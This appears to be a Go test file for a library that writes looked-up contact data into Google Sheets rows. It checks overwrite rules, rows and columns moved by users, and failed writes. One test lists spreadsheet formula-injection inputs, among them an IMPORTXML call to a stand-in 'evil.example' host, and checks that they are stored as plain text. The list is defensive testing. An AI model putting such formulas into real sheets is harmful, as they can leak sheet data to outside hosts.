package sheets

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"rowsmith/sheets/sheetsim"
)

// people is a small table: first name, company, email (input and output), then the outputs of leadsPlan.
func people(rows ...[]any) [][]any {
	return append([][]any{{"First name", "Company", "Email", "Title", "Phone"}}, rows...)
}

func leadsPlan(id string, tab int64, fill Fill) Plan {
	return Plan{
		SpreadsheetID: id, SheetID: tab, Inputs: []int{0, 1, 2}, InputHeadings: map[int]string{0: "First name", 1: "Company", 2: "Email"}, Fill: fill,
		Outputs: []Column{
			{Index: 2, Attribute: "email", Heading: "Email", Format: FormatText},
			{Index: 3, Attribute: "job_title", Heading: "Title", Format: FormatText},
			{Index: 4, Attribute: "phone", Heading: "Phone", Format: FormatID},
		},
	}
}

// split does what a job does first: it reads the rows and makes of each what will be written beside it.
func (s *sim) split(p Plan, values func(row int, cells []Cell) []CellWrite) []RowWrite {
	s.t.Helper()
	g := s.grid(p.SpreadsheetID, p.SheetID)
	var out []RowWrite
	for row := p.HeaderRow + 1; row < len(g.Rows); row++ {
		inputs := g.Pick(row, p.Inputs)
		if !Eligible(inputs) {
			continue
		}
		w := RowWrite{Ref: fmt.Sprint("r", row), Row: row, Anchor: AnchorOf(inputs), RowHash: RowHashOf(g.Rows[row], p.Skip), Cells: values(row, g.Rows[row])}
		w.AltAnchors = p.WrittenAnchors(inputs, w.Cells)
		out = append(out, w)
	}
	return out
}

func (s *sim) write(p Plan, rows []RowWrite) []RowResult {
	s.t.Helper()
	got, err := s.writer.Write(context.Background(), p, rows)
	if err != nil {
		s.t.Fatal(err)
	}
	if len(got) != len(rows) {
		s.t.Fatalf("%d results of %d rows", len(got), len(rows))
	}
	for i, r := range got {
		if r.Ref != rows[i].Ref || r.Status == "" {
			s.t.Fatalf("result %d is %+v", i, r)
		}
	}
	return got
}

func first(cells []Cell) string { return FormatText.Text(cells[0].Value) }

// titles writes "title of X" beside X.
func titles(_ int, cells []Cell) []CellWrite {
	return []CellWrite{{Col: 3, Value: "title of " + first(cells)}}
}

func TestWriteInPlace(t *testing.T) {
	s := newSim(t)
	id, tab := s.sheet(people([]any{"Ada", "Acme"}, []any{"Bob", "Bolt"}, []any{}, []any{"Cy", "Core", "cy@core.example"})...)
	p := leadsPlan(id, tab, FillBlanks)
	rows := s.split(p, func(_ int, cells []Cell) []CellWrite {
		return []CellWrite{{Col: 2, Value: strings.ToLower(first(cells)) + "@x.example"}, {Col: 3, Value: "title of " + first(cells)}, {Col: 4, Value: "+49 30 " + first(cells), Note: "source: test"}}
	})
	s.server.ResetCalls()
	got := s.write(p, rows)
	if c := s.server.Calls(); c.Reads != 1 || c.Writes != 1 {
		t.Errorf("%d reads and %d writes, want one each", c.Reads, c.Writes)
	}
	want := []string{"First name|Company|Email|Title|Phone", "Ada|Acme|ada@x.example|title of Ada|+49 30 Ada", "Bob|Bolt|bob@x.example|title of Bob|+49 30 Bob", "",
		"Cy|Core|cy@core.example|title of Cy|+49 30 Cy"}
	if text := s.text(id, tab); !slices.Equal(text, want) {
		t.Errorf("the sheet is %q", text)
	}
	if got[0].Cells != 3 || got[0].Status != StatusWritten || got[0].Row != 1 || got[0].Moved || got[2].Cells != 2 || !slices.Equal(got[2].Kept, []CellKept{{2, ReasonNotBlank}}) {
		t.Errorf("results %+v", got)
	}
	// Again, as after a crash before the results were recorded: the same, and nothing is sent.
	s.server.ResetCalls()
	if again := s.write(p, rows); fmt.Sprint(again) != fmt.Sprint(got) {
		t.Errorf("a second write says %+v, the first %+v", again, got)
	}
	if c := s.server.Calls(); c.Writes != 0 {
		t.Errorf("a second write sent %d batches", c.Writes)
	}
}

func TestFillPolicies(t *testing.T) {
	for _, c := range []struct {
		name, there string // what a person enters into the cell
		fill        Fill
		value, prev any
		want        string // what stands there afterwards
		reason      string
	}{
		{"blank", "", FillBlanks, "new", nil, "new", ""},
		{"white space is blank", "' ", FillBlanks, "new", nil, "new", ""},
		{"not blank", "mine", FillBlanks, "new", nil, "mine", ReasonNotBlank},
		{"no fill given is blanks", "mine", "", "new", nil, "mine", ReasonNotBlank},
		{"the same", "new", FillBlanks, "new", nil, "new", ""},
		{"zero is something", "0", FillBlanks, "new", nil, "0", ReasonNotBlank},
		{"false is something", "FALSE", FillBlanks, "new", nil, "false", ReasonNotBlank},
		{"formula", `="x"`, FillBlanks, "new", nil, "", ReasonFormula},
		{"formula that shows nothing", `=""`, FillBlanks, "new", nil, "", ReasonFormula},
		{"formula that shows the same", `="new"`, FillBlanks, "new", nil, "", ReasonFormula},
		{"formula under overwrite", `="x"`, FillOverwrite, "new", nil, "", ReasonFormula},
		{"overwrite", "mine", FillOverwrite, "new", nil, "new", ""},
		{"stale, ours", "old", FillStale, "new", "old", "new", ""},
		{"stale, edited", "mine", FillStale, "new", "old", "mine", ReasonNotBlank},
		{"stale, never ours", "mine", FillStale, "new", nil, "mine", ReasonNotBlank},
		{"stale, blank", "", FillStale, "new", "old", "new", ""},
		{"nothing to write", "mine", FillOverwrite, " ", nil, "mine", "nothing"},
		{"nil", "mine", FillOverwrite, nil, nil, "mine", "nothing"},
		{"too long", "", FillOverwrite, strings.Repeat("x", 50_001), nil, "", ReasonTooLong},
		{"no cell can hold it", "", FillOverwrite, struct{}{}, nil, "", ReasonBadValue},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t)
			id, tab := s.sheet(people([]any{"Ada", "Acme"})...)
			if c.there != "" {
				s.enter(id, "D2", c.there)
			}
			p := leadsPlan(id, tab, c.fill)
			before := s.grid(id, tab).At(1, 3)
			got := s.write(p, s.split(p, func(int, []Cell) []CellWrite { return []CellWrite{{Col: 3, Value: c.value, Previous: c.prev}} }))[0]
			cell := s.grid(id, tab).At(1, 3)
			switch c.reason {
			case "":
				if got.Status != StatusWritten || got.Cells != 1 {
					t.Errorf("result %+v", got)
				}
			case "nothing":
				if got.Status != StatusUnchanged {
					t.Errorf("result %+v", got)
				}
			default:
				if got.Status != StatusKept || got.Reason != c.reason || !slices.Equal(got.Kept, []CellKept{{3, c.reason}}) {
					t.Errorf("result %+v, want %s", got, c.reason)
				}
			}
			if c.reason == ReasonFormula {
				if cell != before || !cell.Formula {
					t.Errorf("the formula became %+v", cell)
				}
			} else if text := fmt.Sprint(cell.Value); c.want != "" && text != c.want {
				t.Errorf("the cell shows %q", text)
			}
		})
	}
}

// Rows are moved between split and write by everything people do.
func TestRowsThatMoved(t *testing.T) {
	sort := func(tab int64) string {
		return fmt.Sprintf(`{"sortRange":{"range":{"sheetId":%d,"startRowIndex":1},"sortSpecs":[{"dimensionIndex":0,"sortOrder":"DESCENDING"}]}}`, tab)
	}
	for _, c := range []struct {
		name    string
		act     func(s *sim, id string, tab int64)
		want    []string
		reasons []string
	}{
		{"sorted", func(s *sim, id string, tab int64) { s.batch(id, sort(tab)) },
			[]string{"Dan|Dot||title of Dan", "Cy|Core||title of Cy", "Bob|Bolt||title of Bob", "Ada|Acme||title of Ada"}, []string{"", "", "", ""}},
		{"row inserted", func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"insertDimension":{"range":{"sheetId":%d,"dimension":"ROWS","startIndex":2,"endIndex":3}}}`, tab))
			s.enter(id, "A3", "Zed")
		}, []string{"Ada|Acme||title of Ada", "Zed", "Bob|Bolt||title of Bob", "Cy|Core||title of Cy", "Dan|Dot||title of Dan"}, []string{"", "", "", ""}},
		{"row deleted", func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"deleteDimension":{"range":{"sheetId":%d,"dimension":"ROWS","startIndex":2,"endIndex":3}}}`, tab))
		}, []string{"Ada|Acme||title of Ada", "Cy|Core||title of Cy", "Dan|Dot||title of Dan"}, []string{"", ReasonRowChanged, "", ""}},
		{"last row deleted", func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"deleteDimension":{"range":{"sheetId":%d,"dimension":"ROWS","startIndex":4}}}`, tab))
		}, []string{"Ada|Acme||title of Ada", "Bob|Bolt||title of Bob", "Cy|Core||title of Cy"}, []string{"", "", "", ReasonRowGone}},
		{"input edited", func(s *sim, id string, tab int64) { s.enter(id, "A3", "Rob") },
			[]string{"Ada|Acme||title of Ada", "Rob|Bolt", "Cy|Core||title of Cy", "Dan|Dot||title of Dan"}, []string{"", ReasonRowChanged, "", ""}},
		{"inputs swapped", func(s *sim, id string, tab int64) {
			s.enter(id, "A2", "Bob")
			s.enter(id, "B2", "Bolt")
			s.enter(id, "A3", "Ada")
			s.enter(id, "B3", "Acme")
		}, []string{"Bob|Bolt||title of Bob", "Ada|Acme||title of Ada", "Cy|Core||title of Cy", "Dan|Dot||title of Dan"}, []string{"", "", "", ""}},
		{"a copy was made", func(s *sim, id string, tab int64) {
			s.enter(id, "A2", "Other")
			for _, a1 := range []string{"6", "7"} {
				s.enter(id, "A"+a1, "Ada")
				s.enter(id, "B"+a1, "Acme")
			}
		}, []string{"Other|Acme", "Bob|Bolt||title of Bob", "Cy|Core||title of Cy", "Dan|Dot||title of Dan", "Ada|Acme", "Ada|Acme"}, []string{ReasonAmbiguous, "", "", ""}},
		{"a copy was made beside the row", func(s *sim, id string, tab int64) {
			s.enter(id, "A6", "Ada")
			s.enter(id, "B6", "Acme")
		}, []string{"Ada|Acme||title of Ada", "Bob|Bolt||title of Bob", "Cy|Core||title of Cy", "Dan|Dot||title of Dan", "Ada|Acme"}, []string{"", "", "", ""}},
		{"tab renamed", func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"updateSheetProperties":{"properties":{"sheetId":%d,"title":"It's! A1"},"fields":"title"}}`, tab))
		}, []string{"Ada|Acme||title of Ada", "Bob|Bolt||title of Bob", "Cy|Core||title of Cy", "Dan|Dot||title of Dan"}, []string{"", "", "", ""}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t)
			id, tab := s.sheet(people([]any{"Ada", "Acme"}, []any{"Bob", "Bolt"}, []any{"Cy", "Core"}, []any{"Dan", "Dot"})...)
			p := leadsPlan(id, tab, FillBlanks)
			rows := s.split(p, titles)
			c.act(s, id, tab)
			got := s.write(p, rows)
			if text := s.text(id, tab)[1:]; !slices.Equal(text, c.want) {
				t.Errorf("the sheet is %q", text)
			}
			for i, r := range got {
				if r.Reason != c.reasons[i] || (r.Status == StatusWritten) != (r.Reason == "") || r.Moved != (r.Row != rows[i].Row) {
					t.Errorf("row %d: %+v, want reason %q", i, r, c.reasons[i])
				}
			}
		})
	}
}

// Twins have the same inputs; the rest of their rows tells them apart.
func TestTwins(t *testing.T) {
	s := newSim(t)
	id, tab := s.sheet(append([][]any{{"First name", "Title", "City"}}, []any{"Ada", nil, "Rome"}, []any{"Ada", nil, "Oslo"}, []any{"Bob", nil, "Bonn"})...)
	p := Plan{SpreadsheetID: id, SheetID: tab, Inputs: []int{0}, Outputs: []Column{{Index: 1, Attribute: "job_title", Heading: "Title"}}}
	rows := s.split(p, func(_ int, cells []Cell) []CellWrite {
		return []CellWrite{{Col: 1, Value: "from " + FormatText.Text(cells[2].Value)}}
	})
	s.batch(id, fmt.Sprintf(`{"insertDimension":{"range":{"sheetId":%d,"dimension":"ROWS","startIndex":1,"endIndex":3}}}`, tab))
	// Two rows further down: this write has Oslo and Bob only.
	got := s.write(p, rows[1:])
	if text := s.text(id, tab)[1:]; !slices.Equal(text, []string{"", "", "Ada||Rome", "Ada|from Oslo|Oslo", "Bob|from Bonn|Bonn"}) {
		t.Errorf("the sheet is %q: %+v", text, got)
	}
	// Without hashes nobody can tell, unless the job says that both rows are its own.
	rows[0].RowHash, rows[0].Row = Anchor{}, 0
	if got := s.write(p, rows[:1]); got[0].Reason != ReasonAmbiguous {
		t.Errorf("%+v", got)
	}
	rows[0].Copies = 2
	if got := s.write(p, rows[:1]); got[0].Status != StatusWritten || got[0].Row != 3 {
		t.Errorf("%+v", got)
	}
}

// A column that is input and output counts as it was, or as we wrote it.
func TestRowsKnownByWhatWeWrote(t *testing.T) {
	s := newSim(t)
	id, tab := s.sheet(people([]any{"Ada", "Acme"}, []any{"Bob", "Bolt"})...)
	p := leadsPlan(id, tab, FillBlanks)
	rows := s.split(p, func(_ int, cells []Cell) []CellWrite {
		return []CellWrite{{Col: 2, Value: first(cells) + "@x.example"}, {Col: 3, Value: "title"}}
	})
	got := s.write(p, rows)
	s.batch(id, fmt.Sprintf(`{"sortRange":{"range":{"sheetId":%d,"startRowIndex":1},"sortSpecs":[{"dimensionIndex":0,"sortOrder":"DESCENDING"}]}}`, tab))
	again := s.write(p, rows)
	for i := range again {
		if again[i].Status != StatusWritten || again[i].Cells != got[i].Cells || !again[i].Moved {
			t.Errorf("row %d: %+v after %+v", i, again[i], got[i])
		}
	}
	s.enter(id, "C2", "a person's own") // Bob's
	if again := s.write(p, rows); again[1].Reason != ReasonRowChanged || again[0].Status != StatusWritten {
		t.Errorf("%+v", again)
	}
}

// Nothing we write may become a formula, a number or a date by itself, and what is typed arrives with its type.
func TestHostileValues(t *testing.T) {
	hostile := []string{`=IMPORTXML("http://evil.example","//x")`, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "007", "1-2", "1/2", "TRUE", "12e3", "€5", "100%", "=", "＝1+1",
		"a\x00b", "a\u0001b", "x\xffy", "\xed\xa0\x80z", "line\nbreak", "tab\there", "<b>&amp;", `"; DROP`, "😀", "'", "#REF!", "null", "\u202Egnp", strings.Repeat("ü", 50_000)}
	want := slices.Clone(hostile)
	for from, to := range map[string]string{"\r=1": "\n=1", "a\x00b": "ab", "a\u0001b": "ab", "x\xffy": "xy", "\xed\xa0\x80z": "z"} {
		want[slices.Index(want, from)] = to
	}
	s := newSim(t)
	var table [][]any
	for i := range hostile {
		table = append(table, []any{fmt.Sprint("p", i), "c"})
	}
	id, tab := s.sheet(people(table...)...)
	p := leadsPlan(id, tab, FillBlanks)
	got := s.write(p, s.split(p, func(row int, _ []Cell) []CellWrite {
		return []CellWrite{{Col: 3, Value: hostile[row-1], Note: hostile[row-1][:1]}, {Col: 4, Value: hostile[row-1]}}
	}))
	g := s.grid(id, tab)
	for i, r := range got {
		if r.Status != StatusWritten || r.Cells != 2 {
			t.Errorf("%.20q: %+v", hostile[i], r)
		}
		for _, col := range []int{3, 4} {
			if c := g.At(i+1, col); c.Value != want[i] || c.Formula {
				t.Errorf("%.20q in column %d became %.40v (formula %v)", hostile[i], col, c.Value, c.Formula)
			}
		}
	}
}

func TestTypedValues(t *testing.T) {
	s := newSim(t)
	id, tab := s.sheet([]any{"Name", "Count", "Flag", "Day", "Moment", "ID", "Text"}, []any{"Ada"})
	p := Plan{SpreadsheetID: id, SheetID: tab, Inputs: []int{0}, Outputs: []Column{
		{1, "a", "Count", FormatNumber}, {2, "b", "Flag", FormatFlag}, {3, "c", "Day", FormatDate}, {4, "d", "Moment", FormatMoment}, {5, "e", "ID", FormatID}, {6, "f", "Text", FormatText}}}
	got := s.write(p, s.split(p, func(int, []Cell) []CellWrite {
		return []CellWrite{{Col: 1, Value: 12.5}, {Col: 2, Value: false}, {Col: 3, Value: "2024-02-29"}, {Col: 4, Value: "2024-02-29T12:00:01+02:00"}, {Col: 5, Value: 49301234567.0}, {Col: 6, Value: "plain"}}
	}))
	if got[0].Cells != 6 {
		t.Fatalf("%+v", got)
	}
	row := s.grid(id, tab).Rows[1]
	want := []any{"Ada", 12.5, false, 45351.0, nil, "49301234567", "plain"}
	for i, w := range want {
		if w != nil && row[i].Value != w {
			t.Errorf("column %d is %v, want %v", i, row[i].Value, w)
		}
	}
	for i, f := range map[int]Format{3: FormatDate, 4: FormatMoment} {
		if text := f.Text(row[i].Value); text != map[int]string{3: "2024-02-29", 4: "2024-02-29T10:00:01Z"}[i] {
			t.Errorf("column %d reads %q", i, text)
		}
	}
	raw, err := s.server.Do(context.Background(), "GET", "/v4/spreadsheets/"+id+"?includeGridData=true&fields=sheets.data.rowData.values(userEnteredFormat.numberFormat)", nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{`"@"`, `"yyyy-mm-dd"`, `"yyyy-mm-dd hh:mm:ss"`} {
		if !strings.Contains(string(raw), f) {
			t.Errorf("no cell has the number format %s", f)
		}
	}
	if again := s.write(p, s.split(p, func(int, []Cell) []CellWrite {
		return []CellWrite{{Col: 4, Value: "2024-02-29T10:00:01Z"}, {Col: 1, Value: 12.5}}
	})); again[0].Cells != 2 || len(again[0].Kept) > 0 {
		t.Errorf("the same values are not the same: %+v", again)
	}
}

// Whatever happens to a batch's answer, the next look decides.
func TestAmbiguousWrites(t *testing.T) {
	batch := func(op sheetsim.Op) bool { return op.Method == "spreadsheets.batchUpdate" }
	for name, f := range map[string]sheetsim.Fault{
		"lost before":      {Match: batch, Status: 503},
		"lost after":       {Match: batch, Status: 503, Apply: true},
		"cut before":       {Match: batch, Drop: true},
		"cut after":        {Match: batch, Drop: true, Apply: true},
		"lost twice after": {Match: batch, Status: 500, Apply: true, Times: 2},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSim(t)
			id, tab := s.sheet(people([]any{"Ada", "Acme"}, []any{"Bob", "Bolt", "bob@x.example"})...)
			p := leadsPlan(id, tab, FillBlanks)
			rows := s.split(p, func(_ int, cells []Cell) []CellWrite {
				return []CellWrite{{Col: 2, Value: "new@x.example"}, {Col: 3, Value: "title of " + first(cells)}}
			})
			s.server.Fail(f)
			got := s.write(p, rows)
			if got[0].Cells != 2 || got[1].Cells != 1 || !slices.Equal(got[1].Kept, []CellKept{{2, ReasonNotBlank}}) {
				t.Errorf("%+v", got)
			}
			if text := s.text(id, tab)[1:]; !slices.Equal(text, []string{"Ada|Acme|new@x.example|title of Ada", "Bob|Bolt|bob@x.example|title of Bob"}) {
				t.Errorf("the sheet is %q", text)
			}
		})
	}
	for status, kind := range map[int]error{503: ErrUnavailable, 429: ErrQuota, 403: ErrAccess, 404: ErrNotFound} {
		s := newSim(t)
		id, tab := s.sheet(people([]any{"Ada", "Acme"})...)
		p := leadsPlan(id, tab, FillBlanks)
		rows := s.split(p, titles)
		s.server.Fail(sheetsim.Fault{Match: batch, Status: status, Times: -1, Header: map[string]string{"Retry-After": "7"}})
		got, err := s.writer.Write(context.Background(), p, rows)
		var e *Error
		if !errors.Is(err, kind) || !errors.As(err, &e) || e.Status != status {
			t.Errorf("%d is %v", status, err)
		}
		if got[0].Status != "" || got[0].Cells != 0 {
			t.Errorf("%d: a row counts as decided: %+v", status, got[0])
		}
		if kind == ErrQuota && (e.RetryAfter.Seconds() != 7 || s.server.Calls().By["spreadsheets.batchUpdate"] > 3) {
			t.Errorf("after a 429: %v, %v", e.RetryAfter, s.server.Calls())
		}
	}
}

// Someone acts in the moment between the last look and the write: Sheets can't prevent it, so it is seen and undone.
func TestEditsInTheMomentOfWriting(t *testing.T) {
	for _, c := range []struct {
		name    string
		fill    Fill
		act     func(s *sim, id string, tab int64)
		want    []string
		reasons []string
	}{
		{"sorted", FillBlanks, func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"sortRange":{"range":{"sheetId":%d,"startRowIndex":1},"sortSpecs":[{"dimensionIndex":0,"sortOrder":"DESCENDING"}]}}`, tab))
		}, []string{"Cy|Core||has one", "Bob|Bolt||title of Bob", "Ada|Acme"}, []string{ReasonEdited, "", ReasonNotBlank}},
		{"row inserted above", FillBlanks, func(s *sim, id string, tab int64) {
			s.batch(id, fmt.Sprintf(`{"insertDimension":{"range":{"sheetId":%d,"dimension":"ROWS","startIndex":1,"endIndex":2}}}`, tab))
		}, []string{"", "Ada|Acme", "Bob|Bolt", "Cy|Core||has one"}, []string{ReasonEdited, ReasonEdited, ReasonNotBlank}},
		{"input edited", FillOverwrite, func(s *sim, id string, tab int64) { s.enter(id, "A4", "Cyrus") },
			[]string{"Ada|Acme||title of Ada", "Bob|Bolt||title of Bob", "Cyrus|Core||has one"}, []string{"", "", ReasonEdited}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t)
			id, tab := s.sheet(people([]any{"Ada", "Acme"}, []any{"Bob", "Bolt"}, []any{"Cy", "Core", nil, "has one"})...)
			p := leadsPlan(id, tab, c.fill)
			rows := s.split(p, titles)
			once := false
			s.server.Before(func(op sheetsim.Op) {
				if op.Method == "spreadsheets.batchUpdate" && !once {
					once = true
					c.act(s, id, tab)
				}
			})
			got := s.write(p, rows)
			if text := s.text(id, tab)[1:]; !slices.Equal(text, c.want) {
				t.Errorf("the sheet is %q", text)
			}
			for i, r := range got {
				if r.Reason != c.reasons[i] || (r.Status == StatusKept) != (r.Reason != "") {
					t.Errorf("row %d: %+v, want %q", i, r, c.reasons[i])
				}
			}
			// The next call finds the rows where they are now.
			if c.name != "input edited" {
				s.write(p, rows)
				for _, line := range s.text(id, tab)[1:] {
					name, _, _ := strings.Cut(line, "|")
					if name != "" && name != "Cy" && !strings.HasSuffix(line, "title of "+name) {
						t.Errorf("after the next call: %q", line)
					}
				}
			}
		})
	}
}

// Columns move too.
func TestColumnsThatMoved(t *testing.T) {
	setUp := func(t *testing.T) (*sim, Plan, []RowWrite) {
		s := newSim(t)
		id, tab := s.sheet([]any{"First name", "Company"}, []any{"Ada", "Acme"}, []any{"Bob", "Bolt"})
		outputs, err := s.writer.PrepareColumns(context.Background(), id, tab, 0, []Column{{Attribute: "job_title", Heading: "Job title"}})
		if err != nil {
			t.Fatal(err)
		}
		p := Plan{SpreadsheetID: id, SheetID: tab, Inputs: []int{0, 1}, InputHeadings: map[int]string{0: "First name", 1: "Company"}, Outputs: outputs}
		return s, p, s.split(p, func(_ int, cells []Cell) []CellWrite { return []CellWrite{{Col: 2, Value: "title of " + first(cells)}} })
	}
	insert := func(tab int64, at int) string {
		return fmt.Sprintf(`{"insertDimension":{"range":{"sheetId":%d,"dimension":"COLUMNS","startIndex":%d,"endIndex":%d}}}`, tab, at, at+1)
	}
	for _, c := range []struct {
		name string
		act  func(s *sim, p Plan)
		want []string
	}{
		{"inserted before all", func(s *sim, p Plan) { s.batch(p.SpreadsheetID, insert(p.SheetID, 0)) },
			[]string{"|First name|Company|Job title", "|Ada|Acme|title of Ada", "|Bob|Bolt|title of Bob"}},
		{"inserted between inputs and outputs", func(s *sim, p Plan) { s.batch(p.SpreadsheetID, insert(p.SheetID, 2)) },
			[]string{"First name|Company||Job title", "Ada|Acme||title of Ada", "Bob|Bolt||title of Bob"}},
		{"output renamed and moved", func(s *sim, p Plan) {
			s.enter(p.SpreadsheetID, "C1", "What they do")
			s.batch(p.SpreadsheetID, insert(p.SheetID, 2))
			s.enter(p.SpreadsheetID, "C1", "Job title")
		}, []string{"First name|Company|Job title|What they do", "Ada|Acme||title of Ada", "Bob|Bolt||title of Bob"}},
		{"inputs swapped", func(s *sim, p Plan) {
			s.batch(p.SpreadsheetID, fmt.Sprintf(`{"moveDimension":{"source":{"sheetId":%d,"dimension":"COLUMNS","startIndex":1,"endIndex":2},"destinationIndex":0}}`, p.SheetID))
		}, []string{"Company|First name|Job title", "Acme|Ada|title of Ada", "Bolt|Bob|title of Bob"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, p, rows := setUp(t)
			c.act(s, p)
			s.write(p, rows)
			if text := s.text(p.SpreadsheetID, p.SheetID); !slices.Equal(text, c.want) {
				t.Errorf("the sheet is %q", text)
			}
		})
	}
	for name, at := range map[string]int{"deleted": 2} {
		t.Run(name, func(t *testing.T) {
			s, p, rows := setUp(t)
			s.batch(p.SpreadsheetID, fmt.Sprintf(`{"deleteDimension":{"range":{"sheetId":%d,"dimension":"COLUMNS","startIndex":%d,"endIndex":%d}}}`, p.SheetID, at, at+1))
			if _, err := s.writer.Write(context.Background(), p, rows); !errors.Is(err, ErrColumnMissing) {
				t.Errorf("%v", err)
			}
			if text := s.text(p.SpreadsheetID, p.SheetID); !slices.Equal(text, []string{"First name|Company", "Ada|Acme", "Bob|Bolt"}) {
				t.Errorf("the sheet is %q", text)
			}
		})
	}
	t.Run("tab deleted", func(t *testing.T) {
		s, p, rows := setUp(t)
		s.batch(p.SpreadsheetID, `{"addSheet":{}}`, fmt.Sprintf(`{"deleteSheet":{"sheetId":%d}}`, p.SheetID))
		if _, err := s.writer.Write(context.Background(), p, rows); !errors.Is(err, ErrSheetMissing) {
			t.Errorf("%v", err)
		}
	})
}

// Whatever people do to the rows between split and write, a value stands beside the inputs it was made from, or nowhere.
func TestNeverTheWrongRow(t *testing.T) {
	s := newSim(t)
	rapid.Check(t, func(rt *rapid.T) {
		n := rapid.IntRange(1, 14).Draw(rt, "rows")
		var table [][]any
		for range n {
			// Few names, so that twins are usual.
			table = append(table, []any{rapid.SampledFrom([]string{"Ada", "Bob", "Cy", "Dan", "Eve"}).Draw(rt, "name"), rapid.SampledFrom([]string{"X", "Y"}).Draw(rt, "company")})
		}
		id, tab := s.sheet(people(table...)...)
		p := leadsPlan(id, tab, FillBlanks)
		value := func(cells []Cell) string {
			return "title of " + first(cells) + " at " + FormatText.Text(cells[1].Value)
		}
		rows := s.split(p, func(_ int, cells []Cell) []CellWrite {
			return []CellWrite{{Col: 2, Value: value(cells)}, {Col: 3, Value: value(cells)}}
		})
		draw := func(label string) (acts []func()) {
			for range rapid.IntRange(0, 4).Draw(rt, label) {
				at, to := rapid.IntRange(1, n).Draw(rt, "at"), rapid.IntRange(1, n+1).Draw(rt, "to")
				edit := rapid.SampledFrom([]string{"Ada", "Bob", "Zoe"}).Draw(rt, "edit")
				dimension := fmt.Sprintf(`"sheetId":%d,"dimension":"ROWS","startIndex":%d,"endIndex":%d`, tab, at, at+1)
				acts = append(acts, rapid.SampledFrom([]func(){
					func() {
						s.batch(id, fmt.Sprintf(`{"sortRange":{"range":{"sheetId":%d,"startRowIndex":1,"endRowIndex":%d},"sortSpecs":[{"dimensionIndex":%d,"sortOrder":"DESCENDING"}]}}`, tab, n+1, at%2))
					},
					func() { s.batch(id, `{"insertDimension":{"range":{`+dimension+`}}}`) },
					func() { s.batch(id, `{"deleteDimension":{"range":{`+dimension+`}}}`) },
					func() {
						if to != at && to != at+1 {
							s.batch(id, fmt.Sprintf(`{"moveDimension":{"source":{%s},"destinationIndex":%d}}`, dimension, to))
						}
					},
					func() { s.enter(id, fmt.Sprintf("A%d", at+1), edit) },
				}).Draw(rt, "act"))
			}
			return acts
		}
		for _, act := range draw("before") {
			act()
		}
		during := draw("in the moment of writing")
		undisturbed := len(during) == 0
		s.server.Before(func(op sheetsim.Op) {
			if op.Method == "spreadsheets.batchUpdate" {
				for _, act := range during {
					act()
				}
				during = nil
			}
		})
		got := s.write(p, rows)
		s.server.Before(nil)
		stands := 0
		for row, cells := range s.grid(id, tab).Rows {
			if row == 0 {
				continue
			}
			for _, col := range []int{2, 3} {
				if len(cells) > col && cells[col].Value != nil {
					stands++
					if cells[col].Value != value(cells) {
						rt.Fatalf("row %d: %v stands beside %v", row, cells[col].Value, cells[:2])
					}
				}
			}
		}
		counted := 0
		for _, r := range got {
			counted += r.Cells
		}
		if counted > stands {
			rt.Fatalf("%d cells counted as written, %d stand there: %+v", counted, stands, got)
		}
		again := s.write(p, rows)
		for i := range again {
			// Rows with one anchor may change roles after they were disturbed; otherwise each counts as it did.
			if undisturbed && got[i].Status == StatusWritten && again[i].Cells != got[i].Cells {
				rt.Fatalf("row %d: %+v, and on the second call %+v", i, got[i], again[i])
			}
		}
	})
}
